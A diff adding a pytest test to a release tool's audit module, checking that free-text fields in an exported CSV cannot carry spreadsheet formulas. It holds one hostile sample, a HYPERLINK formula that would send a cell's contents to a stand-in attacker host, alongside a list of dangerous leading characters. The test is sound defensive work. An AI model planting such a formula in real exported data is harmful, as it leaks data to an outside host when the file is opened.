@@ -503,3 +503,34 @@ def test_the_approvals_folder_is_not_an_app_of_the_archive(world):
     done = lab.runbook("index", "--outputs", str(lab.outputs))
     assert done.returncode == 0, done.stdout + done.stderr
     assert "_approvals" not in (lab.outputs / "index.html").read_text()
+
+
+def test_the_audit_csv_never_carries_a_formula_from_a_record(tmp_path):
+    """A skip reason (free text anyone running a release types) that a spreadsheet would run."""
+    import pandas
+
+    from hotdash_release.archive.audit import Change, write_audit
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    change = Change(
+        "hotdash-production",
+        "20261206T000000Z-abcdef",
+        "2026-12-06T00:00:00Z",
+        "@erin",
+        [],
+        "",
+        "GO",
+        "skipped",
+        "passed",
+        "6 of 6 met",
+        "released",
+        False,
+        None,
+        [f"staging check skipped: {hostile}"],
+    )
+    change.requester = "+erin"
+    change.exceptions = [hostile]
+    _, csv = write_audit([change], tmp_path / "audit", title="t", archive_root=tmp_path)
+    row = pandas.read_csv(csv).iloc[0]
+    assert row["exceptions"] == "'" + hostile and row["requester"] == "'+erin"
+    assert not any(str(v).startswith(("=", "+", "@", "-")) for v in row.values)
